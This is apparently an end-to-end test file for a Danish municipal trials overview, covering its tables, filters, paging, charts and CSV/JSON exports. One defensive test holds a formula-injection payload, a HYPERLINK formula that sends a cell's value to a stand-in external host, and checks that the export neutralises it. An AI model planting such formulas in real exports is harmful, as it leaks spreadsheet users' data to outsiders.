import { readFile } from "node:fs/promises";
import { beforeAll, describe, expect, inject, it } from "vitest";
import type { Download, Page } from "playwright-core";
import { member, members } from "@frikommune/members";
import { da } from "../../packages/web/src/i18n/da.js";
import { useBrowser } from "./support/browser.js";

const web = useBrowser();
const webUrl = inject("webUrl");

/** Trials per member on one page of the overview's table. */
const PAGE_SIZE = 10;

type Status = "IDEA" | "APPLICATION_SENT" | "APPROVED" | "REJECTED" | "ACTIVE" | "COMPLETED" | "STOPPED";
interface Filters {
  member?: string;
  status?: Status;
  exemption?: string;
}
interface ApiTrial {
  id: string;
  title: string;
  status: Status;
  validFrom: string | null;
  validTo: string | null;
  exemptions: { code: string }[];
  milestones: { state: string; overdue: boolean }[];
}
interface ApiPage {
  slug: string;
  name: string;
  totalCount: number;
  hasNextPage: boolean;
  endCursor: string | null;
  nodes: ApiTrial[];
}

async function graphql<T = any>(query: string, variables: Record<string, unknown> = {}, token?: string): Promise<T> {
  const response = await fetch(`${webUrl}/graphql`, {
    method: "POST",
    headers: { "content-type": "application/json", "x-graphql-csrf": "1", ...(token ? { authorization: `Bearer ${token}` } : {}) },
    body: JSON.stringify({ query, variables }),
  });
  const body = (await response.json()) as { data?: T; errors?: { message: string }[] };
  expect(body.errors, JSON.stringify(body.errors)).toBeUndefined();
  return body.data!;
}

async function editorToken(slug: string): Promise<string> {
  const response = await fetch(`${webUrl}/auth/dev-token`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ role: "editor", municipality: slug }),
  });
  return ((await response.json()) as { token: string }).token;
}

const TRIAL_PAGE = `query ($slug: ID!, $first: Int!, $after: String, $status: TrialStatus, $exemption: ID) {
  municipality(slug: $slug) {
    name
    trials(first: $first, after: $after, status: $status, exemption: $exemption) {
      totalCount pageInfo { hasNextPage endCursor }
      nodes { id title status validFrom validTo exemptions { code } milestones { state overdue } }
    }
  }
}`;

/** One member's page of trials as the API gives it. */
async function apiPage(slug: string, filters: Filters, first: number, after: string | null): Promise<ApiPage> {
  const data = await graphql(TRIAL_PAGE, { slug, first, after, status: filters.status ?? null, exemption: filters.exemption ?? null });
  const { name, trials } = data.municipality;
  return { slug, name, totalCount: trials.totalCount, hasNextPage: trials.pageInfo.hasNextPage, endCursor: trials.pageInfo.endCursor, nodes: trials.nodes };
}

const slugsFor = (filters: Filters) => (filters.member ? [filters.member] : members.map((m) => m.slug));

/** The table's first page under the filters: each member's first PAGE_SIZE trials. */
const apiFirstPage = (filters: Filters) => Promise.all(slugsFor(filters).map((slug) => apiPage(slug, filters, PAGE_SIZE, null)));

/** Every trial under the filters, each member's pages followed to the end. */
async function apiAllTrials(filters: Filters): Promise<(ApiTrial & { slug: string; name: string })[]> {
  const all: (ApiTrial & { slug: string; name: string })[] = [];
  for (const slug of slugsFor(filters)) {
    let after: string | null = null;
    for (;;) {
      const page = await apiPage(slug, filters, 100, after);
      all.push(...page.nodes.map((n) => ({ ...n, slug, name: page.name })));
      if (!page.hasNextPage) break;
      after = page.endCursor;
    }
  }
  return all;
}

const rowsOf = (pages: ApiPage[]) => pages.flatMap((p) => p.nodes.map((n) => `${p.slug}|${n.title}`));
const shownText = (pages: ApiPage[]) =>
  `Viser ${pages.reduce((sum, p) => sum + p.nodes.length, 0)} af ${pages.reduce((sum, p) => sum + p.totalCount, 0)} forsøg`;
const statusLabel = (status: Status) => da[`status.${status}`];

/** The table's rows as "slug|title", in order. */
const tableRows = (page: Page) =>
  page.locator("table.overview-trials tbody tr[data-member]").evaluateAll((rows) => rows.map((r) => `${r.getAttribute("data-member")}|${r.querySelector("td:nth-child(2)")?.textContent}`));
const columnTexts = (page: Page, column: number) =>
  page.locator(`table.overview-trials tbody tr[data-member] td:nth-child(${column})`).allTextContents();

async function openOverview(path = "/forsoeg"): Promise<Page> {
  const page = await web.open(path);
  await web.signIn("ministeriet");
  await expect.poll(() => page.getByTestId("shown").textContent()).toMatch(/^Viser \d+ af \d+ forsøg$/);
  return page;
}

/** A ;-separated CSV with quoted fields, as records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ";") record.push(field), (field = "");
    else if (c === "\r" && text[i + 1] === "\n") record.push(field), records.push(record), (record = []), (field = ""), i++;
    else field += c;
  }
  if (field || record.length) record.push(field), records.push(record);
  return records;
}

async function downloaded(page: Page, button: string): Promise<{ download: Download; text: string; bytes: Buffer }> {
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: button }).click()]);
  const bytes = await readFile((await download.path())!);
  return { download, bytes, text: bytes.toString("utf8") };
}

/**
 * The data the overview is tested against: trials enough to page, with statuses, dates, overdue
 * milestones and evaluations. Their titles sort after the sources' own, so each member's first
 * trial stays a seeded one for the other test files on this stack.
 */
const TOLLOSE = "Lokalt borgerbudget i Tølløse";
const QUOTED = 'Lokale "frivillighedspuljer"; anden runde';
const SHOPS = "Foreningshuse i tomme butikker";

async function seed() {
  /** A member's mutation (`create$Trial` → `createHolbaekTrial`), as that member's editor; its answer's id. */
  const write = async (slug: string, field: string, parameters: string, variables: Record<string, unknown>) => {
    const name = field.replace("$", member(slug).typePrefix);
    const args = Object.keys(variables).map((key) => `${key}: $${key}`).join(", ");
    const data = await graphql(`mutation (${parameters}) { ${name}(${args}) { id } }`, variables, await editorToken(slug));
    return data[name] as { id: string };
  };
  const create = (slug: string, input: Record<string, unknown>) =>
    write(slug, "create$Trial", "$input: CreateTrialInput!", { input: { purpose: "Afprøve en friere ramme lokalt", exemptionCodes: [], ...input } });
  const setStatus = async (slug: string, id: string, ...statuses: Status[]) => {
    for (const status of statuses) await write(slug, "set$TrialStatus", "$id: ID!, $status: TrialStatus!", { id, status });
  };
  const addMilestone = (slug: string, trialId: string, title: string, dueOn: string) =>
    write(slug, "add$Milestone", "$trialId: ID!, $input: MilestoneInput!", { trialId, input: { title, dueOn } });

  const tollose = await create("holbaek", { title: TOLLOSE, exemptionCodes: ["A", "C"], validFrom: "2016-11", validTo: "2018" });
  await setStatus("holbaek", tollose.id, "APPLICATION_SENT", "APPROVED", "ACTIVE");
  await addMilestone("holbaek", tollose.id, "Første borgermøde", "2017-03");
  const plan = await addMilestone("holbaek", tollose.id, "Projektplan vedtaget", "2017-01");
  await write("holbaek", "complete$Milestone", "$id: ID!, $completedOn: String!", { id: plan.id, completedOn: "2017-01-15" });
  await write("holbaek", "record$Evaluation", "$trialId: ID!, $input: EvaluationInput!", {
    trialId: tollose.id,
    input: {
      answers: [
        { dimension: "EFFECTS", answer: "Flere borgere deltog" },
        { dimension: "LEGAL_CERTAINTY", answer: "Uændret" },
        { dimension: "ECONOMIC_CONSEQUENCES", answer: "Ingen merudgifter" },
        { dimension: "ADMINISTRATIVE_CONSEQUENCES", answer: "Færre sagsskridt" },
      ],
    },
  });
  await create("holbaek", { title: QUOTED, exemptionCodes: ["B"], validFrom: "2017" });

  const shops = await create("slagelse", { title: SHOPS, exemptionCodes: ["B"], validFrom: "2016-09-01" });
  await setStatus("slagelse", shops.id, "APPLICATION_SENT");
  await addMilestone("slagelse", shops.id, "Aftaler med udlejerne", "2016");

  // More than a page for two members, so each pages with its own cursor.
  for (const [slug, wanted] of [["holbaek", PAGE_SIZE + 3], ["slagelse", PAGE_SIZE + 1]] as const) {
    const { totalCount } = await apiPage(slug, {}, 1, null);
    for (let n = totalCount; n < wanted; n++) {
      await create(slug, { title: `Nærdemokrati i lokalområde ${n + 1}`, exemptionCodes: [["A"], ["D"], []][n % 3], validFrom: "2017-05" });
    }
  }
}

describe("Forsøg på tværs", () => {
  beforeAll(seed, 120_000);

  it("lists every member's first page of trials, member by member, with the count shown out of all", async () => {
    const page = await openOverview();
    const expected = await apiFirstPage({});
    expect(expected.some((p) => p.hasNextPage)).toBe(true);
    expect(await page.getByRole("heading", { level: 1 }).textContent()).toBe("Forsøg på tværs");
    await expect.poll(() => tableRows(page)).toEqual(rowsOf(expected));
    expect(await page.getByTestId("shown").textContent()).toBe(shownText(expected));
    for (const p of expected) expect(await page.locator(`table.overview-trials tr[data-member="${p.slug}"]`).count(), p.slug).toBe(Math.min(PAGE_SIZE, p.totalCount));

    const table = page.locator("table.overview-trials");
    expect(await table.locator("caption").count()).toBe(1);
    expect(await table.locator('thead th[scope="col"]').allTextContents()).toEqual(["Kommune", "Forsøg", "Status", "Fritagelser", "Milepæle", "Fra"]);

    expect(await columnTexts(page, 3)).toEqual(expected.flatMap((p) => p.nodes.map((n) => statusLabel(n.status))));
    expect(web.pageErrors).toEqual([]);
  });

  it("narrows the rows by member, by status and by exemption, keeping the filters in the address", async () => {
    const page = await openOverview();

    await page.getByLabel("Kommune", { exact: true }).selectOption("slagelse");
    await expect.poll(() => new URL(page.url()).search).toBe("?kommune=slagelse");
    const slagelse = await apiFirstPage({ member: "slagelse" });
    await expect.poll(() => tableRows(page)).toEqual(rowsOf(slagelse));
    expect(await page.getByTestId("shown").textContent()).toBe(shownText(slagelse));

    await page.getByLabel("Kommune", { exact: true }).selectOption("");
    await page.getByLabel("Status", { exact: true }).selectOption("ACTIVE");
    await expect.poll(() => new URL(page.url()).search).toBe("?status=ACTIVE");
    const active = await apiFirstPage({ status: "ACTIVE" });
    expect(active.reduce((sum, p) => sum + p.totalCount, 0)).toBeGreaterThan(0);
    await expect.poll(() => tableRows(page)).toEqual(rowsOf(active));
    expect(new Set(await columnTexts(page, 3))).toEqual(new Set([statusLabel("ACTIVE")]));
    expect(await page.getByTestId("shown").textContent()).toBe(shownText(active));

    await page.getByLabel("Status", { exact: true }).selectOption("");
    await page.getByLabel("Fritagelse", { exact: true }).selectOption("D");
    await expect.poll(() => new URL(page.url()).search).toBe("?fritagelse=D");
    const exemptD = await apiFirstPage({ exemption: "D" });
    await expect.poll(() => tableRows(page)).toEqual(rowsOf(exemptD));
    for (const codes of await columnTexts(page, 4)) expect(codes.split(", ")).toContain("D");
    expect(await page.getByTestId("shown").textContent()).toBe(shownText(exemptD));
    expect(web.pageErrors).toEqual([]);
  });

  it("opens a linked, filtered table with its filters chosen; a row has member, linked title, status, exemptions, milestones and a partial date", async () => {
    const filters: Filters = { member: "holbaek", status: "ACTIVE", exemption: "A" };
    const page = await openOverview("/forsoeg?kommune=holbaek&status=ACTIVE&fritagelse=A");
    const expected = await apiFirstPage(filters);
    expect(expected.map((p) => p.slug)).toEqual(["holbaek"]);
    expect(expected[0]!.totalCount).toBeGreaterThan(0);
    await expect.poll(() => tableRows(page)).toEqual(rowsOf(expected));
    expect(await page.getByLabel("Kommune", { exact: true }).inputValue()).toBe("holbaek");
    expect(await page.getByLabel("Status", { exact: true }).inputValue()).toBe("ACTIVE");
    expect(await page.getByLabel("Fritagelse", { exact: true }).inputValue()).toBe("A");
    expect(await page.getByTestId("shown").textContent()).toBe(shownText(expected));

    const tollose = expected[0]!.nodes.find((n) => n.title === TOLLOSE)!;
    expect(tollose).toBeDefined();
    const row = page.locator("table.overview-trials").locator("tr", { has: page.getByRole("link", { name: TOLLOSE }) });
    expect(await row.getByRole("link").getAttribute("href")).toBe(`/kommune/holbaek/forsoeg/${tollose.id}`);
    expect(await row.locator("td").allTextContents()).toEqual([
      "Holbæk",
      TOLLOSE,
      statusLabel(tollose.status),
      tollose.exemptions.map((e) => e.code).join(", "),
      `${tollose.milestones.filter((m) => m.state === "DONE").length} af ${tollose.milestones.length} gennemført ${tollose.milestones.filter((m) => m.overdue).length} overskredet`,
      "november 2016",
    ]);
  });

  it("pages forward with each member's own cursor and back again, by keyboard", async () => {
    const page = await openOverview();
    const first = await apiFirstPage({});
    const second = await Promise.all(first.map((p) => (p.endCursor ? apiPage(p.slug, {}, PAGE_SIZE, p.endCursor) : { ...p, nodes: [] })));
    expect(rowsOf(second).length).toBeGreaterThan(0);
    await expect.poll(() => tableRows(page)).toEqual(rowsOf(first));

    const pager = page.getByRole("navigation", { name: "Sider i tabellen" });
    const previous = pager.getByRole("button", { name: "Forrige side" });
    const next = pager.getByRole("button", { name: "Næste side" });
    expect(await previous.getAttribute("aria-disabled")).toBe("true");

    await next.focus();
    await page.keyboard.press("Enter");
    await expect.poll(() => tableRows(page)).toEqual(rowsOf(second));
    expect(await pager.getByText("Side 2", { exact: true }).count()).toBe(1);
    expect(await page.getByTestId("shown").textContent()).toBe(
      `Viser ${rowsOf(second).length} af ${first.reduce((sum, p) => sum + p.totalCount, 0)} forsøg`,
    );
    const more = second.some((p) => p.hasNextPage);
    expect(await next.getAttribute("aria-disabled")).toBe(more ? null : "true");
    expect(await next.evaluate((button) => button === document.activeElement)).toBe(true);

    await previous.focus();
    await page.keyboard.press("Enter");
    await expect.poll(() => tableRows(page)).toEqual(rowsOf(first));
    expect(await pager.getByText("Side 1", { exact: true }).count()).toBe(1);
    expect(web.pageErrors).toEqual([]);
  });

  it("charts trials by status per member, with a label per member, a legend and the same figures in a table", async () => {
    const page = await openOverview();
    const { municipalities } = await graphql(`{ municipalities { slug name trialSummary { total byStatus { status count } } } }`);
    const chart = page.getByRole("img", { name: /Forsøg efter status pr\. kommune/ });
    expect(await chart.count()).toBe(1);
    expect(await chart.locator("text.member-label").allTextContents()).toEqual(municipalities.map((m: { name: string }) => m.name));
    const description = await chart.locator("desc").textContent();
    for (const m of municipalities) expect(description).toContain(`${m.name}: ${m.trialSummary.total} forsøg`);
    const legend = page.getByRole("list", { name: "Farverne i diagrammet" });
    for (const status of ["IDEA", "APPLICATION_SENT", "APPROVED", "REJECTED", "ACTIVE", "COMPLETED", "STOPPED"] as Status[]) {
      expect(await legend.getByText(statusLabel(status), { exact: true }).count(), status).toBe(1);
    }

    const figures = page.locator("table.status-figures");
    const headers = await figures.locator("thead th").allTextContents();
    for (const m of municipalities) {
      const cells = await figures.locator(`tbody tr[data-member="${m.slug}"] td`).allTextContents();
      for (const { status, count } of m.trialSummary.byStatus) {
        expect(cells[headers.indexOf(statusLabel(status)) - 1], `${m.slug} ${status}`).toBe(String(count));
      }
      expect(cells.at(-1)).toBe(String(m.trialSummary.total));
    }
    expect(web.pageErrors).toEqual([]);
  });

  it("lists the network's overdue milestones, the longest overdue first, with links to their trials", async () => {
    const page = await openOverview();
    const { municipalities } = await graphql(`{ municipalities { slug name trialSummary { overdueMilestones } overdueMilestones(first: 20) { milestone { title dueOn } trial { id title } } } }`);
    type Overdue = { milestone: { title: string; dueOn: string }; trial: { id: string; title: string } };
    const expected = municipalities.flatMap((m: { slug: string; name: string; overdueMilestones: Overdue[] }) => m.overdueMilestones.map((o) => ({ ...o, slug: m.slug, name: m.name })));
    const total = municipalities.reduce((sum: number, m: { trialSummary: { overdueMilestones: number } }) => sum + m.trialSummary.overdueMilestones, 0);
    expect(expected.length).toBeGreaterThanOrEqual(2);
    expect(total).toBe(expected.length);

    const rows = page.locator("table.overdue tbody tr");
    expect(await rows.count()).toBe(expected.length);
    const shown = await rows.evaluateAll((trs) => trs.map((tr) => [...tr.querySelectorAll("td")].map((td) => td.textContent)));
    expect(new Set(shown.map((cells) => `${cells[0]}|${cells[1]}|${cells[2]}`))).toEqual(new Set(expected.map((o: Overdue & { name: string }) => `${o.name}|${o.trial.title}|${o.milestone.title}`)));
    // The longest overdue first: by the end of each due period.
    const end = (due: string) => (due.length === 4 ? `${due}-12-31` : due.length === 7 ? `${due}-31` : due);
    const dueOf = (cells: (string | null)[]) => expected.find((o: Overdue & { name: string }) => o.milestone.title === cells[2] && o.name === cells[0])!.milestone.dueOn;
    const ends = shown.map((cells) => end(dueOf(cells)));
    expect(ends).toEqual([...ends].sort());
    expect(shown).toContainEqual(["Slagelse", SHOPS, "Aftaler med udlejerne", "2016", da["milestone.PLANNED"]]);

    const shops = expected.find((o: Overdue) => o.trial.title === SHOPS)!;
    expect(await page.locator("table.overdue").getByRole("link", { name: SHOPS }).getAttribute("href")).toBe(`/kommune/slagelse/forsoeg/${shops.trial.id}`);
    expect(web.pageErrors).toEqual([]);
  });

  it("counts the trials with an evaluation on each dimension of the template, out of all trials", async () => {
    const page = await openOverview();
    const { municipalities, evaluationTemplate } = await graphql(`{ evaluationTemplate { dimensions { code title } } municipalities { trialSummary { total evaluatedByDimension { dimension trials } } } }`);
    const total = municipalities.reduce((sum: number, m: { trialSummary: { total: number } }) => sum + m.trialSummary.total, 0);
    const table = page.locator("table.evaluations");
    expect(await table.locator("tbody tr").count()).toBe(evaluationTemplate.dimensions.length);
    let evaluatedSomewhere = 0;
    for (const d of evaluationTemplate.dimensions as { code: string; title: string }[]) {
      const count = municipalities.reduce(
        (sum: number, m: { trialSummary: { evaluatedByDimension: { dimension: string; trials: number }[] } }) => sum + (m.trialSummary.evaluatedByDimension.find((e) => e.dimension === d.code)?.trials ?? 0),
        0,
      );
      evaluatedSomewhere += count;
      const row = table.locator(`tr[data-dimension="${d.code}"]`);
      expect(await row.locator("th").textContent()).toBe(d.title);
      expect(await row.locator("td").textContent()).toBe(`${count} af ${total} forsøg`);
    }
    expect(evaluatedSomewhere).toBeGreaterThan(0);
    expect(web.pageErrors).toEqual([]);
  });

  it("exports every page of the filtered table as CSV: BOM, ;-separated, a Danish header and one line per trial", async () => {
    const page = await openOverview();
    const all = await apiAllTrials({});
    expect(all.length).toBeGreaterThan(rowsOf(await apiFirstPage({})).length);

    const { download, bytes, text } = await downloaded(page, "Eksportér CSV");
    expect(download.suggestedFilename()).toMatch(/^forsoeg-\d{4}-\d{2}-\d{2}\.csv$/);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.endsWith("\r\n")).toBe(true);
    expect(text.replaceAll("\r\n", "").includes("\n")).toBe(false);
    expect(text).toContain(`"${QUOTED.replaceAll('"', '""')}"`);
    const [header, ...records] = parseCsv(text.slice(1));
    expect(header).toEqual(["kommune", "titel", "status", "fritagelser", "gyldig fra", "gyldig til", "milepæle i alt", "milepæle overskredet", "id"]);
    expect(records).toEqual(
      all.map((t) => [
        t.name,
        t.title,
        statusLabel(t.status),
        t.exemptions.map((e) => e.code).join(", "),
        t.validFrom ?? "",
        t.validTo ?? "",
        String(t.milestones.length),
        String(t.milestones.filter((m) => m.overdue).length),
        t.id,
      ]),
    );

    await page.getByLabel("Status", { exact: true }).selectOption("ACTIVE");
    await expect.poll(() => new URL(page.url()).search).toBe("?status=ACTIVE");
    const active = await apiAllTrials({ status: "ACTIVE" });
    const filtered = parseCsv((await downloaded(page, "Eksportér CSV")).text.slice(1));
    expect(filtered.slice(1).map((r) => r.at(-1))).toEqual(active.map((t) => t.id));
    expect(new Set(filtered.slice(1).map((r) => r[2]))).toEqual(new Set([statusLabel("ACTIVE")]));
    expect(web.pageErrors).toEqual([]);
  });

  it("exports every trial under the filters as JSON with the API's own values", async () => {
    const page = await openOverview("/forsoeg?kommune=holbaek");
    const all = await apiAllTrials({ member: "holbaek" });
    expect(all.length).toBeGreaterThan(PAGE_SIZE);
    const { download, text } = await downloaded(page, "Eksportér JSON");
    expect(download.suggestedFilename()).toMatch(/^forsoeg-\d{4}-\d{2}-\d{2}\.json$/);
    const records = JSON.parse(text) as Record<string, unknown>[];
    expect(records.map(({ milestones, ...rest }) => ({ ...rest, milestones: (milestones as unknown[]).length }))).toEqual(
      all.map((t) => ({
        municipality: t.slug,
        municipalityName: t.name,
        id: t.id,
        title: t.title,
        status: t.status,
        exemptions: t.exemptions.map((e) => e.code),
        validFrom: t.validFrom,
        validTo: t.validTo,
        milestones: t.milestones.length,
      })),
    );
    expect(web.pageErrors).toEqual([]);
  });

  it("exports a title a spreadsheet would run as a formula as text", async () => {
    const slug = members[0]!.slug;
    const token = await editorToken(slug);
    const { typePrefix } = member(slug);
    const formula = '=HYPERLINK("https://not-the-network.example/?d="&A1;"Se dokumentet")';
    const created = await graphql(`mutation ($input: CreateTrialInput!) { create${typePrefix}Trial(input: $input) { id } }`, { input: { title: formula, purpose: "Afprøve en friere ramme lokalt", exemptionCodes: [] } }, token);
    const id = created[`create${typePrefix}Trial`].id as string;
    try {
      const page = await openOverview(`/forsoeg?kommune=${slug}`);
      const { text } = await downloaded(page, "Eksportér CSV");
      const row = parseCsv(text.slice(1)).find((r) => r.at(-1) === id)!;
      expect(row[1]).toBe(`'${formula}`);
      expect(text).toContain(`"'${formula.replaceAll('"', '""')}"`);
      expect(web.pageErrors).toEqual([]);
    } finally {
      // Its title sorts before the sources' own: out of the way of the other files on this stack.
      await graphql(`mutation ($id: ID!) { update${typePrefix}Trial(id: $id, input: { title: "Nærdemokrati med formler i titlen" }) { id } }`, { id }, token);
    }
  });

  it("speaks English after the switch, the data's words staying Danish", async () => {
    const page = await openOverview("/forsoeg?kommune=holbaek&status=ACTIVE");
    await page.getByRole("button", { name: "English" }).click();
    expect(await page.getByRole("heading", { level: 1 }).textContent()).toBe("Trials across the network");
    expect(await page.getByTestId("shown").textContent()).toMatch(/^Showing \d+ of \d+ trials$/);
    expect(await page.locator("table.overview-trials").getByRole("link", { name: TOLLOSE }).count()).toBe(1);
    const csv = parseCsv((await downloaded(page, "Export CSV")).text.slice(1));
    expect(csv[0]).toEqual(["municipality", "title", "status", "exemptions", "valid from", "valid to", "milestones in total", "milestones overdue", "id"]);
    expect(csv.find((r) => r[1] === TOLLOSE)?.[2]).toBe("Active");
    expect(web.pageErrors).toEqual([]);
  });

  it("has no serious or critical accessibility violations", async () => {
    const page = await openOverview();
    await expect.poll(() => page.getByRole("img", { name: /Forsøg efter status/ }).count()).toBe(1);
    expect(await web.seriousViolations()).toEqual([]);
    await page.getByRole("button", { name: "Næste side" }).click();
    await expect.poll(() => page.getByRole("navigation", { name: "Sider i tabellen" }).getByText("Side 2", { exact: true }).count()).toBe(1);
    await expect.poll(() => page.locator("table.overview-trials[aria-busy]").count()).toBe(0);
    expect(await web.seriousViolations()).toEqual([]);
    expect(web.pageErrors).toEqual([]);
  });
});
